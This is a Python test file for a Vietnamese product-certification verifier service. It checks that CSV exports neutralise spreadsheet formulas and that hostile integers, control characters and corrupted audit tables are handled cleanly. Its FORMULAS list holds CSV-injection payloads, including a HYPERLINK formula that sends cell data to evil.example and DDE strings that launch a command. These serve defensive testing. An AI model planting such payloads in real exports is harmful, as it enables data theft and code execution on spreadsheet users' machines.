"""Hostile input at the edges (issue 15, findings 5 and 9): formula cells in CSV exports,
out-of-range integers on every route, a corrupt audit log, a corrupt scan table under the fast
path, and a batch order retried after a lost answer."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import types
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Annotated, Any, Union, get_args, get_origin

import pytest
from fastapi import FastAPI
from fastapi.dependencies.models import Dependant
from fastapi.params import File, Form
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from pydantic import BaseModel
from sqlalchemy import select, text
from starlette.routing import BaseRoute

from signing import parse_stamp
from stamps.spreadsheet import FORMULA_STARTS, csv_text, text_cell
from tests.conftest import NOW, Demo, csrf_of
from verifier.cli import main
from verifier.service import Service
from verifier.store.models import Batch
from verifier.web.app import create_app, for_a_person

# --- finding 5: no formula cells in CSV ---------------------------------------------------

# Text a producer's or a product's name, a decision or a reason may carry (printable, as every
# free-text field takes), each a formula in a spreadsheet program.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+84 912 345 678",
    "  =1+1",
    '\uff1dHYPERLINK("http://evil.example")',
]


def _looks_like_a_formula(cell: str) -> bool:
    return cell.lstrip()[:1] in FORMULA_STARTS or cell[:1] in FORMULA_STARTS


def _csv_cells(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_registry_csv_exports_carry_no_formula_regression(demo: Demo) -> None:
    """Producers', products' names and revocation texts went into the public CSV exports as
    they were: `=HYPERLINK(...)`, `@SUM(...)`, `-2+3+cmd|...` opened as live formulas in a
    spreadsheet program. Every such cell now opens as text: a single quote in front."""
    authority = demo.token("authority_VN-01")
    post = partial(demo.client.post, headers=authority)
    producer = post("/api/v1/producers", json={
        "legal_name": FORMULAS[0], "kind": "cooperative", "registration_number": "0109999999",
        "address": "Thôn Mới, Ba Vì", "province_code": "01",
    })  # fmt: skip
    assert producer.status_code == 201, producer.text
    certificates = []
    for number, name in enumerate(FORMULAS):
        product = post(f"/api/v1/producers/{producer.json()['id']}/products", json={
            "name": name, "product_group": "food", "pack_description": "Hộp 200 g",
        })  # fmt: skip
        assert product.status_code == 201, product.text
        certificate = post("/api/v1/certificates", json={
            "product_id": product.json()["id"], "stars": 3, "decision_number": f"-{number}/QĐ",
            "decision_date": "2026-10-01",
        })  # fmt: skip
        assert certificate.status_code == 201, certificate.text
        certificates.append(certificate.json()["id"])
    revoked = post(f"/api/v1/certificates/{certificates[1]}/revoke", json={
        "decision": "@QĐ-1", "decision_date": "2026-11-01", "reason": FORMULAS[2],
    })  # fmt: skip
    assert revoked.status_code == 200, revoked.text

    found = _csv_cells(demo.client.get("/api/v1/registry/certificates.csv"))
    ended = _csv_cells(demo.client.get("/api/v1/registry/ended.csv"))
    figures = _csv_cells(demo.client.get("/api/v1/registry/provinces.csv"))
    cells = [cell for table in (found, ended, figures) for row in table for cell in row]
    assert [cell for cell in cells if _looks_like_a_formula(cell)] == []
    for formula in FORMULAS:  # each still readable, as text
        assert "'" + formula in cells
    assert "'@QĐ-1" in [row[ended[0].index("revocation_decision")] for row in ended]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3+cmd|'!A0", "'-2+3+cmd|'!A0"),
        ("+1", "'+1"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\tMật ong", "'\tMật ong"),
        ("   =1+1", "'   =1+1"), ("\u3000\uff20SUM(A1)", "'\u3000\uff20SUM(A1)"),
        ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"), ("\uff1d1", "'\uff1d1"),
        ("Mật ong hoa nhãn", "Mật ong hoa nhãn"), ("a=b", "a=b"), ("", ""),
        ("https://ocop.vn/s/123", "https://ocop.vn/s/123"), ("01-000000042", "01-000000042"),
    ],
)  # fmt: skip
def test_a_text_cell_never_starts_a_formula(text: str, cell: str) -> None:
    assert text_cell(text) == cell


def test_csv_text_quotes_text_so_no_separator_starts_a_cell() -> None:
    """A spreadsheet whose list separator is `;` would split `Mật ong;=1+1` into a cell that
    is a formula: text cells are quoted, numbers bare, None empty."""
    text = csv_text(["name", "stars", "note"], [{"name": "Mật ong;=1+1", "stars": 4}])
    assert text == '"name","stars","note"\n"Mật ong;=1+1",4,""\n'


# --- finding 9a: integers out of range on every route -------------------------------------

HOSTILE_INTEGERS = (2**63, 2**64, -1)
# A valid value for every other field a route may need, so that a request reaches the handler
# and only the integer under test is wrong (FastAPI ignores fields a route does not take).
JSON_FIELDS: dict[str, Any] = {
    "reason": "kiểm tra thị trường", "decision": "QĐ-99", "decision_date": "2026-11-01",
    "decision_number": "QĐ-100", "stars": 4, "last_serial": 1, "name": "Mật ong",
    "product_group": "food", "pack_description": "Chai 500 g", "certificate_id": 1,
    "count": 1, "product_id": 1, "key_index": 1, "first_serial": 1,
}  # fmt: skip
FORM_FIELDS: dict[str, Any] = {
    "reason": "kiểm tra thị trường", "decision": "QĐ-99", "decision_date": "01/11/2026",
    "status": "closed", "key_index": 1, "serial": 1, "certificate_id": 1, "count": 1,
}  # fmt: skip
PATH_TEXT = {"kind": "csv", "code": "x"}


def _is_of(annotation: Any, kind: type = int) -> bool:
    """Whether a parameter's type is ``kind``, an integer by default (or an optional one)."""
    if get_origin(annotation) is Annotated:
        return _is_of(get_args(annotation)[0], kind)
    if get_origin(annotation) in (Union, types.UnionType):
        return any(_is_of(a, kind) for a in get_args(annotation))
    return annotation is kind


def _model(annotation: Any) -> type[BaseModel] | None:
    if get_origin(annotation) is Annotated:
        return _model(get_args(annotation)[0])
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return annotation
    return None


def _params(dependant: Dependant, kind: str) -> list[Any]:
    """Return the ``kind`` parameters (path, query, body) of a route and its dependencies."""
    found = list(getattr(dependant, f"{kind}_params"))
    for sub in dependant.dependencies:
        found += _params(sub, kind)
    return found


def _fields_of(route: APIRoute, kind: type = int) -> list[tuple[str, str]]:
    """Return the route's inputs of type ``kind`` (integers by default) as (where, name): path,
    query, form or json, including the fields of models taken from the query or the body."""
    found = []
    for param in _params(route.dependant, "path"):
        if _is_of(param.field_info.annotation, kind):
            found.append(("path", param.name))
    for where in ("query", "body"):
        for param in _params(route.dependant, where):
            info, model = param.field_info, _model(param.field_info.annotation)
            place = "form" if isinstance(info, Form) else "json" if where == "body" else where
            if model is not None:
                found += [
                    (place, n) for n, f in model.model_fields.items() if _is_of(f.annotation, kind)
                ]
            elif _is_of(info.annotation, kind):  # sent by its alias (linkType), as clients do
                found.append((place, param.alias if place == "query" else param.name))
    return found


def _request(path: str, route: APIRoute, where: str, name: str, value: int | str) -> dict[str, Any]:
    """Return the request (method, url, body) sending ``value`` as the route's ``name``."""
    url = path
    for param in _params(route.dependant, "path"):
        given = value if (where, param.name) == ("path", name) else PATH_TEXT.get(param.name, 1)
        url = url.replace("{" + param.name + "}", str(given))
    request: dict[str, Any] = {"method": sorted(route.methods or ["GET"])[0], "url": url}
    if where == "query":
        request["params"] = {name: str(value)}
    body = _params(route.dependant, "body")
    forms = [p for p in body if isinstance(p.field_info, Form)]
    files = [p for p in body if isinstance(p.field_info, File)]
    if files:
        request["files"] = {p.name: ("label.png", b"\x89PNG\r\n", "image/png") for p in files}
    if forms:
        fields = {**FORM_FIELDS, **({name: value} if where == "form" else {})}
        request["data"] = {k: str(v) for k, v in fields.items()}
    elif body and not files:
        request["json"] = {**JSON_FIELDS, **({name: value} if where == "json" else {})}
    return request


def _routes(routes: list[BaseRoute], prefix: str = "") -> Iterator[tuple[str, APIRoute]]:
    """Yield every API route as (its full path, the route); recent FastAPI versions keep an
    included router as one entry of ``app.routes``, holding the router's own routes."""
    for route in routes:
        if isinstance(route, APIRoute):
            yield prefix + route.path, route
        elif (included := getattr(route, "original_router", None)) is not None:
            yield from _routes(included.routes, prefix + route.include_context.prefix)  # type: ignore[attr-defined]


def _api(demo: Demo) -> FastAPI:
    """The FastAPI app inside the ASGI layers that wrap it (the fast path, the headers...)."""
    app = demo.client.app
    while not isinstance(app, FastAPI):
        app = app.app  # type: ignore[attr-defined]
    return app


def _refused(path: str, answer: Any, statuses: tuple[int, ...]) -> bool:
    """Whether ``answer`` refuses the request with one of ``statuses`` in the form its caller
    reads: the JSON error body for the API, a page in Vietnamese for a person (a form post or
    a page's address), each with its request id."""
    if answer.status_code not in statuses or not answer.headers.get("x-request-id"):
        return False
    if answer.headers.get("content-type", "").startswith("application/json"):
        return "error" in answer.json()
    return for_a_person(path) and "Mã yêu cầu" in answer.text


@dataclass
class SignedIn:
    """A client signed in everywhere, and the CSRF token of each page's forms."""

    client: TestClient
    csrf: dict[str, str]

    def request(self, **request: Any) -> Any:
        page = "/" + str(request["url"]).split("/")[1]
        if "data" in request and page in self.csrf:
            request["data"] = {**request["data"], "csrf": self.csrf[page]}
        return self.client.request(**request)


@pytest.fixture
def signed_in(demo: Demo) -> SignedIn:
    """A client that answers 500s instead of raising them, signed in everywhere as an
    authority (the role that reaches the most handlers)."""
    client = TestClient(_api(demo), raise_server_exceptions=False, base_url="https://testserver")
    token = demo.info["tokens"]["authority_VN-01"]
    client.headers["Authorization"] = f"Bearer {token}"
    csrf = {}
    for page in ("/desk", "/producer"):
        assert client.post(f"{page}/sign-in", data={"token": token}).status_code < 400
        csrf[page] = csrf_of(client.get(page).text)
    return SignedIn(client, csrf)


def test_out_of_range_integers_are_refused_on_every_route_regression(
    demo: Demo, signed_in: SignedIn
) -> None:
    """Ids of 2**63 and more reached the database: SQLite raised OverflowError, a 500 on
    sixteen routes. Every integer a route takes (path, query, form, JSON), on every route the
    app has now or gets later, answers 404 or 422 with the JSON error body instead."""
    checked, wrong = 0, []
    for path, route in _routes(_api(demo).routes):
        for where, name in _fields_of(route):
            for value in HOSTILE_INTEGERS:
                answer = signed_in.request(**_request(path, route, where, name, value))
                checked += 1
                if not _refused(path, answer, (404, 422)):
                    wrong.append(f"{path} {where} {name}={value}: {answer.status_code}")
    assert checked >= 100, "the walk found too few integer parameters: is it still walking?"
    assert not wrong, "\n".join(wrong)


def test_control_characters_are_refused_in_every_text_field_regression(
    demo: Demo, signed_in: SignedIn
) -> None:
    """A NUL byte in a text field was stored as it came (PostgreSQL then refused it, failing
    whatever else travelled with it) or reached a query (a 500). Every text a route takes in
    its query, form or JSON body, on every route the app has now or gets later, answers 422
    with the JSON error body for control characters."""
    checked, wrong = 0, []
    for path, route in _routes(_api(demo).routes):
        for where, name in _fields_of(route, str):
            # a path's text is routed; a csrf token has its own 403; a stamp's code, and the
            # signature of its Digital Link form (AI 8030), are judged (control characters make
            # it "malformed", the answer for any text that is no stamp)
            if where == "path" or name in ("csrf", "code", "8030"):
                continue
            for value in ("a\x00b", "Mật ong\x1b[31m", "dòng một\ndòng hai\x07"):
                answer = signed_in.request(**_request(path, route, where, name, value))
                checked += 1
                if not _refused(path, answer, (422,)):
                    wrong.append(f"{path} {where} {name}: {answer.status_code}")
    assert checked >= 60, "the walk found too few text parameters: is it still walking?"
    assert not wrong, "\n".join(wrong)
    judged = signed_in.client.get("/api/v1/verify", params={"code": "a\x00b"}).json()
    assert judged["verdict"] == "malformed"


# --- finding 9b: a corrupt audit log is reported, not raised ------------------------------


def _audit_verify(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str]:
    monkeypatch.setenv("OCOP_DATABASE_URL", demo.service.settings.database_url)
    status = main(["audit", "verify", "--data-dir", str(demo.data_dir)])
    captured = capsys.readouterr()
    return status, captured.out + captured.err


def _is_sqlite(demo: Demo) -> bool:
    return demo.service.settings.database_url.startswith("sqlite")


# Garbage only SQLite's columns take (PostgreSQL's types refuse it), then garbage both take.
_SQLITE_CORRUPTIONS = [
    ("UPDATE audit_log SET details = '{\"role\": \"auth' WHERE sequence = 4",
     4, "details cannot be read"),
    ("UPDATE audit_log SET at = 'thứ ba' WHERE sequence = 3", 3, "at cannot be read"),
    ("UPDATE audit_log SET actor = x'00ff' WHERE sequence = 6", 6, "actor is not text"),
    ("UPDATE audit_log SET sequence = 'x' WHERE sequence = 5", 5, "missing"),
]  # fmt: skip
_CORRUPTIONS = [
    ("UPDATE audit_log SET details = '\"approved\"' WHERE sequence = 2",
     2, "details is not a JSON object"),
    ("UPDATE audit_log SET hash = 'f' || substr(hash, 2) WHERE sequence = 5", 5, "altered"),
    ("DELETE FROM audit_log WHERE sequence = 8", 8, "missing"),
    ("UPDATE meta SET value = 'x' || value WHERE key = 'audit_head'", None, "head"),
]  # fmt: skip


def _corrupted_log_is_named(
    demo: Demo,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    corruption: tuple[str, int | None, str],
) -> None:
    statement, broken_at, words = corruption
    with demo.service.writer.begin() as session:
        entries = session.execute(text("SELECT COUNT(*) FROM audit_log")).scalar_one()
        session.execute(text(statement))
    status, out = _audit_verify(demo, monkeypatch, capsys)
    assert status == 1, out
    assert f"BROKEN at entry {broken_at or entries + 1 - ('DELETE' in statement)}:" in out
    assert words in out
    assert "Traceback" not in out


@pytest.mark.parametrize("corruption", _CORRUPTIONS)
def test_a_corrupt_audit_log_names_the_broken_link_regression(
    demo: Demo,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    corruption: tuple[str, int | None, str],
) -> None:
    """A row that no longer parses or a garbled head made `ocop audit verify` die with a
    traceback instead of naming the broken link. Now it names the entry and what is wrong,
    and exits 1."""
    _corrupted_log_is_named(demo, monkeypatch, capsys, corruption)


@pytest.mark.parametrize("corruption", _SQLITE_CORRUPTIONS)
def test_a_corrupt_sqlite_audit_log_names_the_broken_link_regression(
    sqlite_demo: Demo,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    corruption: tuple[str, int | None, str],
) -> None:
    """JSON cut short, a time that is not one, bytes where text was: garbage an SQLite file
    can hold, named as the broken link instead of a traceback."""
    _corrupted_log_is_named(sqlite_demo, monkeypatch, capsys, corruption)


def test_a_corrupt_page_of_the_audit_log_is_named_regression(
    sqlite_demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A disk that garbles a page of the audit log's table (here the table's root page of an
    SQLite file): the command says the log cannot be read from there on, and exits 1."""
    demo = sqlite_demo
    path = Path(demo.service.settings.database_url.removeprefix("sqlite:///"))
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        (root,) = connection.execute(
            "SELECT rootpage FROM sqlite_master WHERE name = 'audit_log'"
        ).fetchone()
        (page_size,) = connection.execute("PRAGMA page_size").fetchone()
    with path.open("r+b") as file:
        file.seek((root - 1) * page_size)
        file.write(b"\xff" * 64)
    status, out = _audit_verify(demo, monkeypatch, capsys)
    assert status == 1, out
    assert "BROKEN at entry 1: entry 1 cannot be read" in out
    assert "malformed" in out
    assert "Traceback" not in out


# --- finding 9c: a failure on the fast path answers the JSON error body -------------------


def test_a_corrupt_scan_aggregate_answers_json_on_the_fast_path_regression(
    demo: Demo, caplog: pytest.LogCaptureFixture
) -> None:
    """A serial's stored aggregate that no longer reads (text where its count was, as a
    garbled SQLite page leaves it; on PostgreSQL, a table the database cannot read) made the
    fast path of `GET /api/v1/verify` fail outside FastAPI: a text/plain 500. Now it answers
    the JSON error body of every other route, and the failure is logged."""
    genuine = demo.sample("genuine")
    assert demo.client.get("/api/v1/verify", params={"code": genuine}).status_code == 200
    demo.service.recorder.flush()
    corruption = (
        "UPDATE serial_scans SET count = 'nhiều lắm', first_at = 'hôm qua'"
        if _is_sqlite(demo)
        else "ALTER TABLE serial_scans RENAME COLUMN devices TO garbled"
    )
    with demo.service.writer.begin() as session:
        session.execute(text(corruption))
    settings = demo.service.settings
    service = Service.start(settings, NOW)  # a worker that has not read the serial yet
    try:
        client = TestClient(create_app(service, clock=lambda: NOW), raise_server_exceptions=False)
        answer = client.get("/api/v1/verify", params={"code": genuine})
    finally:
        service.close()
    assert answer.status_code == 500
    assert answer.headers["content-type"] == "application/json"
    error = answer.json()["error"]
    assert error["code"] == "internal_error"
    logged = [r for r in caplog.records if r.name == "verifier.web.answers" and r.exc_info]
    assert logged, "the failure was not logged with its traceback"
    assert error["request_id"] in logged[0].getMessage()


# --- finding 9d: a batch order retried after a lost answer --------------------------------


def _order_json(demo: Demo, count: int = 40) -> dict[str, Any]:
    certificate = parse_stamp(demo.sample("genuine")).payload.certificate_id
    return {"certificate_id": certificate, "count": count, "markets": ["79", "01"]}


def _order(demo: Demo, body: dict[str, Any], key: str | None, role: str = "producer") -> Any:
    headers = {**demo.token(role), **({"Idempotency-Key": key} if key is not None else {})}
    return demo.client.post("/api/v1/batches", json=body, headers=headers)


def test_a_batch_order_retried_with_its_idempotency_key_allocates_once_regression(
    demo: Demo,
) -> None:
    """An order committed but not acknowledged (the connection cut) could not be retried
    safely: every retry allocated new serials. The same Idempotency-Key from the same token
    with the same order now returns the first batch, 200, and allocates nothing."""
    first = _order(demo, _order_json(demo), "order-2026-12-01-a")
    assert first.status_code == 201, first.text
    again = _order(demo, {**_order_json(demo), "markets": ["01", "79", "01"]}, "order-2026-12-01-a")
    assert again.status_code == 200, again.text
    assert again.json() == first.json()
    after = _order(demo, _order_json(demo, 5), None)
    assert after.status_code == 201
    assert after.json()["first_serial"] == first.json()["last_serial"] + 1  # nothing in between
    with demo.service.sessions() as session:
        keyed = session.scalars(select(Batch).where(Batch.idempotency_key.is_not(None))).all()
    assert [b.id for b in keyed] == [first.json()["id"]]


def test_an_idempotency_key_is_the_callers_own_and_one_order_only(demo: Demo) -> None:
    """A key sent with another order is refused (nothing allocated); another caller's key of
    the same text is another key; a key must be 1 to 100 visible ASCII characters."""
    first = _order(demo, _order_json(demo), "k-1")
    assert first.status_code == 201, first.text
    other = _order(demo, _order_json(demo, 41), "k-1")
    assert other.status_code == 422
    assert "another order" in other.json()["error"]["message"]
    theirs = _order(demo, _order_json(demo), "k-1", role="authority_VN-01")
    assert theirs.status_code == 201, theirs.text
    assert theirs.json()["id"] != first.json()["id"]
    for bad in ("x" * 101, "mã đơn", "two words", ""):
        headers: dict[str, Any] = {**demo.token("producer"), "Idempotency-Key": bad.encode()}
        answer = demo.client.post("/api/v1/batches", json=_order_json(demo), headers=headers)
        assert answer.status_code == 422, (bad, answer.text)
        assert answer.json()["error"]["code"] == "invalid_request"
    next_batch = _order(demo, _order_json(demo, 1), None).json()
    assert next_batch["first_serial"] == theirs.json()["last_serial"] + 1


def test_the_same_order_sent_at_once_makes_one_batch(demo: Demo) -> None:
    """Retries racing each other (a client that gave up waiting) still make one batch."""
    with ThreadPoolExecutor(max_workers=6) as pool:
        answers = list(pool.map(lambda _: _order(demo, _order_json(demo), "race-1"), range(6)))
    assert sorted(a.status_code for a in answers) == [200] * 5 + [201]
    assert len({a.json()["id"] for a in answers}) == 1


def test_the_producer_page_orders_once_however_often_the_form_is_sent_regression(
    demo: Demo,
) -> None:
    """A double click on "Đặt tem", or the form sent again after a lost answer, ordered two
    batches. The form now carries a key made with the page: the second sending finds the
    batch of the first."""
    token = demo.info["tokens"]["producer"]
    demo.client.post("/producer/sign-in", data={"token": token})
    page = demo.client.get("/producer").text
    key = re.search(r'name="order_key" value="([^"]+)"', page)
    assert key is not None, "the order form carries no key"
    certificate = page.split('<option value="')[1].split('"')[0]
    form = {"certificate_id": certificate, "count": "30", "order_key": key[1],
            "csrf": csrf_of(page)}  # fmt: skip
    sent = [demo.client.post("/producer/batches", data=form, follow_redirects=False)
            for _ in range(2)]  # fmt: skip
    assert [s.status_code for s in sent] == [303, 303]
    assert sent[0].headers["location"] == sent[1].headers["location"]
    assert "batch=" in sent[0].headers["location"]
    fresh = re.search(r'name="order_key" value="([^"]+)"', demo.client.get("/producer").text)
    assert fresh is not None
    assert fresh[1] != key[1]


def test_a_page_refuses_bad_input_with_a_page_in_vietnamese_regression(demo: Demo) -> None:
    """A control character in a page's address (the public registry's search) was answered
    with the API's raw English JSON, which a person on a phone cannot read. Pages answer a
    page, Vietnamese first, with the request id; the API keeps its JSON."""
    page = demo.client.get("/registry", params={"q": "mật\x00ong"})
    assert page.status_code == 422
    assert page.headers["content-type"].startswith("text/html")
    assert "Yêu cầu không hợp lệ" in page.text
    assert page.headers["x-request-id"] in page.text
    english = demo.client.get("/registry", params={"q": "a\x00", "lang": "en"})
    assert "Request not understood" in english.text
    api = demo.client.get("/api/v1/registry/certificates", params={"q": "mật\x00ong"})
    assert api.status_code == 422
    assert api.json()["error"]["code"] == "invalid_request"
